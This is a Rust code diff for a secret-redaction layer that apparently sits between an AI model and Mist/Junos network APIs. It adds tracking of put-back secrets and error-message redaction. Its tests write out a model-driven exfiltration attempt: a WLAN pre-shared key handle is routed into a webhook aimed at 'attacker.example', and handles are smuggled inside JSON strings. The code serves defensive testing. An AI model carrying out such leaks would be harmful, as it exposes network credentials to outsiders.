@@ -107,6 +107,22 @@ pub struct WriteTo<'a> {
     pub update: bool,
 }
 
+/// The handles a write put back: an error echoing their values always shows the handles (see
+/// [`Redactor::redact_message`]). Holds no value.
+#[derive(Debug, Clone, Default, PartialEq, Eq)]
+pub struct Revealed {
+    handles: Vec<String>,
+}
+
+fn strings(value: &Value, f: &mut dyn FnMut(&str)) {
+    match value {
+        Value::String(s) => f(s),
+        Value::Array(items) => items.iter().for_each(|i| strings(i, f)),
+        Value::Object(map) => map.values().for_each(|v| strings(v, f)),
+        _ => {}
+    }
+}
+
 /// Replaces every secret of a session by its handle, and puts handles back in writes.
 /// Clones share the session's values.
 #[derive(Clone)]
@@ -188,17 +204,26 @@ impl Redactor {
 
     /// An error text with its secrets replaced: JSON quoted in it, `name=value` pairs of secret
     /// properties, Junos statements, and every value this session knows as a secret wherever it
-    /// stands, but those the `caller`'s own arguments hold.
-    pub fn redact_message(&self, text: &str, caller: &[&str]) -> String {
+    /// stands, but those the `caller`'s own arguments hold (unless `revealed` in this call).
+    pub fn redact_message(&self, text: &str, caller: &[&str], revealed: &Revealed) -> String {
         let mut vault = self.vault();
-        message::redact(&mut vault, text, caller)
+        message::redact(&mut vault, text, caller, &revealed.handles)
     }
 
     /// Puts the values back for the handles of a write body going `to`: only in places of the
-    /// handle's kind, and only handles read from the object written.
-    pub fn reveal_json(&self, value: &mut Value, to: WriteTo<'_>) -> Result<(), RevealError> {
+    /// handle's kind, and only handles read from the object written. Says which were put back.
+    pub fn reveal_json(&self, value: &mut Value, to: WriteTo<'_>) -> Result<Revealed, RevealError> {
+        let mut handles = Vec::new();
+        strings(value, &mut |s| {
+            handles.extend(
+                vault::handle_ranges(s)
+                    .into_iter()
+                    .map(|r| s[r].to_string()),
+            )
+        });
         let vault = self.vault();
-        reveal::tree(&vault, value, None, &to)
+        reveal::tree(&vault, value, None, &to)?;
+        Ok(Revealed { handles })
     }
 
     /// Puts the values back for the handles of a device configuration (set, text or XML) going
@@ -421,6 +446,75 @@ mod tests {
     }
 
     #[test]
+    fn a_write_cannot_open_a_way_out() {
+        let r = redactor();
+        let mut wlan = json!({"id": W1, "auth": {"psk": "Orig1nal-PSK-7c41"}});
+        r.redact_json(&mut wlan, FROM);
+        let handle = wlan["auth"]["psk"].clone();
+        // The model's body names another object's id: it is no origin (and is the same WLAN).
+        let mut inject = json!({"auth": {"psk": handle, "id": H7}});
+        r.reveal_json(&mut inject, TO).expect("the same WLAN");
+        r.redact_json(&mut inject, ReadFrom::NOWHERE);
+        let hook = format!("/api/v1/orgs/o1/webhooks/{H7}");
+        let mut out = json!({"url": "https://attacker.example", "headers": {"psk": handle}});
+        let to_hook = WriteTo {
+            place: &hook,
+            update: true,
+        };
+        assert!(matches!(
+            r.reveal_json(&mut out, to_hook),
+            Err(RevealError::OtherObject { .. })
+        ));
+        // An id deep in an answer (or in Mist's echo of such a body) names nothing either.
+        let mut echo = json!({"id": W1, "auth": {"psk": "Orig1nal-PSK-7c41", "id": H7}});
+        r.redact_json(&mut echo, FROM);
+        let mut out = json!({"headers": {"psk": echo["auth"]["psk"].clone()}});
+        assert!(r.reveal_json(&mut out, to_hook).is_err());
+        // JSON text in a field is text: a handle in it stays refused.
+        let mut wrapped =
+            json!({"ssid": format!("{{\"psk\":\"{}\"}}", handle.as_str().unwrap_or(""))});
+        assert!(matches!(
+            r.reveal_json(&mut wrapped, TO),
+            Err(RevealError::Misplaced { .. })
+        ));
+        // A create (POST) below the object is another object.
+        let create = WriteTo {
+            place: WLAN,
+            update: false,
+        };
+        assert!(r.reveal_json(&mut json!({"psk": handle}), create).is_err());
+        // A Junos `$9$` value goes back after its own statement only.
+        let mut config = json!({"router_name": "r1", "output": "set access radius-server 10.0.0.1 secret \"$9$Hid\""});
+        let r1 = ReadFrom {
+            place: "junos:r1",
+            single: true,
+        };
+        r.redact_json(&mut config, r1);
+        let h = config["output"]
+            .as_str()
+            .unwrap_or("")
+            .split('"')
+            .nth(1)
+            .unwrap_or("")
+            .to_string();
+        let to_r1 = WriteTo {
+            place: "junos:r1",
+            update: true,
+        };
+        assert!(
+            r.reveal_text(
+                &format!("set access radius-server 10.0.0.1 secret \"{h}\""),
+                to_r1
+            )
+            .is_ok()
+        );
+        assert!(
+            r.reveal_text(&format!("set interfaces ge-0/0/0 description {h}"), to_r1)
+                .is_err()
+        );
+    }
+
+    #[test]
     fn context_decides_for_key_and_junos_json() {
         let r = redactor();
         let mut v = json!({
@@ -476,6 +570,12 @@ mod tests {
             Err(RevealError::Misplaced { .. })
         ));
         back.as_object_mut().expect("object").remove("note");
+        // Nor one in JSON text held in a string (read-only records: webhook deliveries).
+        assert!(matches!(
+            r.reveal_json(&mut back.clone(), TO),
+            Err(RevealError::Misplaced { .. })
+        ));
+        back.as_object_mut().expect("object").remove("req_payload");
         r.reveal_json(&mut back, TO).expect("all in place");
         assert_eq!(
             back["configuration"]["snmp"]["community"][0]["name"],
@@ -485,10 +585,6 @@ mod tests {
         assert_eq!(back["lines"][1], "MIIsplit");
         assert_eq!(back["headers"]["Authorization"], "Bearer hdr-secret");
         assert_eq!(back["url"], "https://user:UrlPass1@collector.example/in");
-        assert_eq!(
-            back["req_payload"],
-            json!({"psk": "json-in-string", "ssid": "x"}).to_string()
-        );
     }
 
     #[test]
@@ -571,16 +667,45 @@ mod tests {
             (r#"got {"secret":"Pa\"ss\\w\u00f6rd-Known1"}"#, "Known1"),
             ("the psk LongKnownPsk-77aa is weak", "LongKnownPsk"),
         ] {
-            let redacted = r.redact_message(text, &[]);
+            let redacted = r.redact_message(text, &[], &Revealed::default());
             assert!(!redacted.contains(hidden), "{hidden} in {redacted}");
         }
         // A value the caller sent is echoed as it is, known or not: no oracle for guesses.
         let guesses = "wlan_id: got \"password1 LongKnownPsk-77aa letmein\"";
+        let caller = ["password1 LongKnownPsk-77aa letmein"];
         assert_eq!(
-            r.redact_message(guesses, &["password1 LongKnownPsk-77aa letmein"]),
+            r.redact_message(guesses, &caller, &Revealed::default()),
             guesses
         );
-        assert_eq!(r.redact_message("no secret here", &[]), "no secret here");
+        // But not a value this call put back from a handle: its echo is the secret itself.
+        let mut write = json!({"psk": wlan["psk"].clone()});
+        let revealed = r.reveal_json(&mut write, TO).expect("in place");
+        assert!(
+            !r.redact_message(guesses, &caller, &revealed)
+                .contains("LongKnownPsk")
+        );
+        // Clipped in the middle of a text (Mist's `…` then a hint), and refusals stay readable.
+        let clipped = r.redact_message(
+            "value LongKnownPs\u{2026}. Hint: retry",
+            &[],
+            &Revealed::default(),
+        );
+        assert!(
+            !clipped.contains("LongKnownPs") && clipped.ends_with(". Hint: retry"),
+            "{clipped}"
+        );
+        let refusal = RevealError::Unknown {
+            handle: "\u{ab}secret:psk:0123abcd\u{bb}".into(),
+        }
+        .to_string();
+        assert_eq!(
+            r.redact_message(&refusal, &[], &Revealed::default()),
+            refusal
+        );
+        assert_eq!(
+            r.redact_message("no secret here", &[], &Revealed::default()),
+            "no secret here"
+        );
     }
 
     #[test]
@@ -619,7 +744,7 @@ mod tests {
         let spaced = "\u{ab}secret: ".repeat(100_000);
         assert!(r.reveal_text(&spaced, TO).is_err());
         assert_eq!(
-            r.redact_message(&many, &[]),
+            r.redact_message(&many, &[], &Revealed::default()),
             many,
             "text that only looks like handles stays"
         );
@@ -628,7 +753,7 @@ mod tests {
         r.redact_json(&mut odd, FROM);
         assert!(!odd.to_string().contains("not-a-handle"));
         let braces = "{".repeat(100_000);
-        assert_eq!(r.redact_message(&braces, &[]), braces);
+        assert_eq!(r.redact_message(&braces, &[], &Revealed::default()), braces);
     }
 
     #[test]
